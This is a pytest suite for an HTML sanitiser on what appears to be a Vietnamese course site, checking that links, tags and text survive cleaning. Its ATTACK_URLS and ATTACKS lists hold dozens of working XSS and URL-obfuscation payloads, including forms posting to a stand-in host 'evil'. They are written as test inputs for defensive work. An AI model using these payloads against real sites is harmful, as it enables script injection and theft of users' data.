"""Rich text: what authors need stays, what attacks does not."""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from courses.html import SCHEMES, TAGS, clean, is_safe_url, plain

ATTACK_URLS = [
    "javascript:alert(1)", "javascript:1", "JaVaScRiPt:1", "javascript&colon;1", "java&#115;cript:1",
    "java\tscript:1", "java\nscript:1", "java&Tab;script:1", "java&NewLine;script:1", " javascript:1",
    "\x01javascript:1", "&#1;javascript:1", "javascript&#x3a;alert(1)", "&#106;&#97;vascript:1", "java\u200bscript:1",
    "java\u00adscript:1", "data:1", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:1", "file:///etc/passwd", "blob:1", "ftp://host/x", "ws://host", "view-source:1", "intent://host",
    "about:blank", "//evil.example", "//evil.example:1", "/\\evil.example", "\\\\evil.example", "\\/evil.example",
    "/&#47;evil.example", "/&sol;evil.example", "&#47;/evil.example", "/&bsol;evil.example", "/\t/evil.example",
    "/\n/evil.example", "/&Tab;/evil.example", " //evil.example", "///evil.example", "http:evil.example",
    "https:evil.example", "http:/evil.example", "http:///evil.example", "http:\\\\evil.example", "https://",
    "https://good@evil.example", "https://good:pass@evil.example", "http://[", "mailto:", "tel:", "tel://",
    "evil.example", "x/y", "?a=1", "#a", "", "https://a b", "1:1", ":", "javascript:/\\/1", "https&colon;evil",
]  # fmt: skip

ATTACKS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:1><text>x</text></a></svg>",
    "<math><mi><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:1>x</math>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<p onclick=alert(1)>x</p>", "<p style=\"background:url(javascript:1)\">x</p>", "<b onmouseover=alert(1)>x</b>",
    "<a href=/x onclick=alert(1)>x</a>", "<a href=/x target=_blank ping=//evil>x</a>", "<a name=x id=y class=z>x</a>",
    "<a href=\"/x\" style=position:fixed>x</a>", "<a href='/x\"onclick=alert(1)'>x</a>",
    "<a href=`javascript:1`>x</a>", "<iframe src=javascript:1></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x>", "<embed src=x>",
    "<form action=//evil><input name=pin><button>x</button></form>", "<input autofocus onfocus=alert(1)>",
    "<base href=//evil>", "<link rel=stylesheet href=//evil>", "<meta http-equiv=refresh content='0;//evil'>",
    "<style>@import '//evil'</style>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>", "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>",
    "<!--<img src=x onerror=alert(1)>-->", "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:1'?>",
    "<!DOCTYPE html><script>alert(1)</script>", "<script>alert(1)", "<script", "<p/onclick=alert(1)>x",
    "<p\x00onclick=alert(1)>x", "<\x00script>alert(1)</script>", "\x3cscript\x3ealert(1)",
    "<table background=javascript:1><tr><td background=javascript:1>x", "<td colspan=2 onclick=alert(1)>x</td>",
    "<table><tr><td colspan='1e9'>x</table>", "<table><tr><td rowspan=\"1 onclick=alert(1)\">x</table>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "&#60;script&#62;alert(1)", "<<script>alert(1)//<</script>",
    "<h1 id=location>x</h1>", "<font color=red>x</font>", "<custom-element onclick=alert(1)>x</custom-element>",
    "<a href=javascript:1><a href=javascript:1>x", "<select><option><script>alert(1)</script></select>",
    "<b><i><script>alert(1)</b></i>", "{{ 1 }}{% load x %}<script>", "<p>\u202e<script>\u2066alert(1)</p>",
]  # fmt: skip

ALLOWED_ATTRIBUTES = {"a": {"href"}, "th": {"colspan", "rowspan", "scope"}, "td": {"colspan", "rowspan"}}


class Browser(HTMLParser):
    """Reads cleaned HTML and refuses everything outside the allowlist."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS
        assert {name for name, _ in attrs} <= ALLOWED_ATTRIBUTES.get(tag, set())
        for value in (value for name, value in attrs if name == "href"):
            assert re.match(r"(https?://[^/]|mailto:.|tel:.|/(?![/\\]))", value.strip(" "), re.IGNORECASE), value

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def read_as_a_browser(source):
    browser = Browser(convert_charrefs=True)
    browser.feed(source)
    browser.close()


@pytest.mark.parametrize("url", ATTACK_URLS)
def test_a_link_to_a_refused_address_loses_it(url):
    for quoted in (f'<a href="{url}">x</a>', f"<a href='{url}'>x</a>"):
        assert "href" not in clean(quoted)
    assert not is_safe_url(url)


@pytest.mark.parametrize(
    "url",
    ["https://dichvucong.gov.vn", "http://bacninh.gov.vn/a?b=1&c=2#d", "HTTPS://A.VN", "mailto:a@b.vn",
     "tel:+84204123456", "/khoa-hoc/an-toan-so/",
     "/", "/a//b", "/a?next=//b", "https://vi.wikipedia.org/wiki/Bắc_Giang", "tel:1022"],
)  # fmt: skip
def test_a_link_to_a_good_address_keeps_it(url):
    assert clean(f'<a href="{url}">x</a>') == f'<a href="{html.escape(url)}">x</a>'


@pytest.mark.parametrize("hidden", ["\x00", "\x1b", "\x7f", "\u200b", "\u202e", "\u2066", "\ufeff"])
def test_hidden_characters_are_dropped_from_text_and_refused_in_an_address(hidden):
    assert clean(f"<p>a{hidden}b</p>") == "<p>ab</p>"
    assert not is_safe_url(f"https://ex{hidden}ample.vn")


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_runs(attack):
    cleaned = clean(attack)
    read_as_a_browser(cleaned)
    assert clean(cleaned) == cleaned


@given(st.text(max_size=80) | st.text("<>/\"'= &;#abhrefscipt:!-", max_size=80))
def test_any_text_becomes_harmless_and_stays_as_it_is_when_cleaned_again(text):
    cleaned = clean(text)
    read_as_a_browser(cleaned)
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "source",
    [
        "<p>Xin <b>chào</b> <strong>bà</strong> <i>con</i> <em>ta</em><br>nhé</p>",
        "<ul><li>một</li></ul><ol><li>hai</li></ol><h2>ba</h2><h3>bốn</h3><h4>năm</h4>",
        '<table><caption>Việc</caption><thead><tr><th scope="col" colspan="2">Nên</th></tr></thead>'
        '<tbody><tr><td rowspan="2">a</td></tr></tbody></table>',
        "ẵ ễ ỡ ữ ặ Ậ Ễ Ở đ 👨‍👩‍👧 &amp; &lt;",
    ],
)
def test_what_authors_write_stays_as_it_is(source):
    assert clean(source) == source


def test_the_scheme_list_is_the_one_promised():
    assert {"http", "https", "mailto", "tel"} == SCHEMES


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("<p>một</p><p>hai<br>ba</p>", "một hai ba"),
        ("<ul><li>a</li><li>b</li></ul>", "a b"),
        ("m<b>ậ</b>t khẩu", "mật khẩu"),
        ("a &lt; b &amp; c&nbsp;d &eacute;", "a < b & c d é"),
        ("<p></p>", ""),
        ("", ""),
        ("&lt;script&gt;", "<script>"),
    ],
)
def test_plain_text_has_no_tags_and_keeps_words_apart(source, text):
    assert plain(source) == text
